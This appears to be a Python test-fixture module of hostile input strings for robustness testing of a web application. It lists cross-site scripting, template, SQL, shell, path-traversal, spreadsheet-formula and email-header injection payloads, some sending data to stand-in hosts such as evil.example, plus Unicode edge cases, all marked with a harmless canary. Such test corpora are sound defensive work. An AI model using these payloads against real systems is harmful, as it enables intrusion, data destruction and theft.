"""Strings of each kind that has broken programs: name -> text. `CANARY` marks what must never live."""

from __future__ import annotations

CANARY = "sojourncanary"

SCRIPTS = {
    "script": f"<script>{CANARY}()</script>",
    "script out of an attribute": f'"><script>{CANARY}()</script>',
    "script out of a quote": f"' onfocus='{CANARY}()' autofocus x='",
    "script out of a double quote": f'" onmouseover="{CANARY}()" x="',
    "script out of a text area": f"</textarea><script>{CANARY}()</script>",
    "script out of a title": f"</title><script>{CANARY}()</script>",
    "script in a picture": f"<img src=x onerror={CANARY}()>",
    "script in a drawing": f"<svg/onload={CANARY}()>",
    "script in a link": f'<a href="javascript:{CANARY}()">here</a>',
    "script as an address": f"javascript:{CANARY}()",
    "script in JSON": f"</script><!--<script>{CANARY}",
    "script of halves": f"<scr<script>ipt>{CANARY}()</scr</script>ipt>",
    "script in entities": f"&lt;script&gt;{CANARY}()&lt;/script&gt;",
    "style": f"</style><style>@import '//{CANARY}'</style>",
    "frame": f"<iframe src=//{CANARY}.example></iframe>",
    "base": f"<base href=//{CANARY}.example/>",
    "meta": f'<meta http-equiv="refresh" content="0;url=//{CANARY}.example">',
    "form": f"</form><form action=//{CANARY}.example><input name=csrfmiddlewaretoken>",
}
TEMPLATES = {
    "template of Django": "{{ settings.SECRET_KEY }}{% debug %}{% load cache %}",
    "template that never ends": "{% if {{ {# {% comment %}",
    "template of another kind": "${7*7}#{7*7}<%= 7*7 %>{{7*7}}",
    "format": "%s%n%d%(name)s{0}{name.__class__.__mro__}",
    "typst": '#panic("x") #read("/etc/passwd") $ x $ ] #let a = 1 [',
    "typst of marks": "*_`~@<label> // /* */ \\ #[ ]",
    "link of the outbox": "[[link]] {{ link }}",
}
QUERIES = {
    "SQL": "'; DROP TABLE applications_application; --",
    "SQL that is always true": "' OR '1'='1",
    "SQL of PostgreSQL": "$$; SELECT pg_sleep(10); $$",
    "wildcards": "%_%_\\%",
    "backslashes": "\\\\\\' \\0 \\x00 \\u0000",
    "shell": "$(touch /tmp/sojourncanary) `id` ; | &",
    "path": "../../../../etc/passwd",
    "LDAP and XPath": "*)(uid=*))(|(uid=*",
}
FORMULAS = {
    "formula": "=1+1",
    "formula that calls": "=cmd|'/c calc'!A1",
    "formula that fetches": f'=HYPERLINK("https://{CANARY}.example/","here")',
    "formula by plus": "+1+1",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a line": "\r\n=1+1",
    "formula in another width": "＝1+1",
}
HEADERS = {
    "header": f"Ada\r\nBcc: {CANARY}@evil.example",
    "header by a line feed": f"Ada\nBcc: {CANARY}@evil.example\n\nBody",
    "header by a carriage return": f"Ada\rBcc: {CANARY}@evil.example",
    "header in an encoded word": f"=?utf-8?q?Ada=0ABcc:_{CANARY}@evil.example?=",
    "header by a separator": f"Ada\u2028Bcc: {CANARY}@evil.example\u0085X: y",
    "several addresses": f"ada@a.example, {CANARY}@evil.example",
    "address with a name": f'"Ada" <{CANARY}@evil.example>',
}
LETTERS = {
    "turned round": "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "right to left": "עדה אייבל عربي",
    "without width": "A\u200bd\u200da\ufeff\u00ad",
    "accents without end": "a" + "\u0301" * 200,
    "marks over marks": "Z̸̢̛͚̦̪̖̠͎̼̲̦͚͓̩̺̦̏͌̈́͂̓̆̋͘͝a̵l̶g̷o̴",
    "faces": "👩🏽‍⚕️😀🏳️‍🌈",
    "beyond the plane": "𝒜𝓭𝓪 𐍈 🂡",
    "half a pair": "a\ud800b",
    "no character": "a\ufffe\uffffb",
    "control": "a\x01\x08\x0b\x1b[31m\x7fb",
    "zero": "a\x00b",
    "Chinese": "陳大文 ちば 서울",
    "dotless": "İstanbul ıI ß ﬁ ǅ",
    "fullwidth": "＜script＞",
    "white space only": " \t\u00a0\u3000",
    "apostrophes": "O'Neill d’Arc ʻOkina",
    "one word": "a" * 500,
    "huge": "x " * 60_000,
    "lines without end": "\n" * 5_000 + "end",
    "nested": "[" * 2_000 + "]" * 2_000,
}
WORDS = {
    "nothing of Python": "None",
    "nothing of JavaScript": "undefined",
    "not a number": "NaN",
    "infinite": "1e999",
    "below zero": "-1",
    "true": "True",
    "date that is none": "2024-02-30",
    "long number": "9" * 400,
}
KINDS: tuple[dict[str, str], ...] = (SCRIPTS, TEMPLATES, QUERIES, FORMULAS, HEADERS, LETTERS, WORDS)
ALL: dict[str, str] = {name: text for kind in KINDS for name, text in kind.items()}
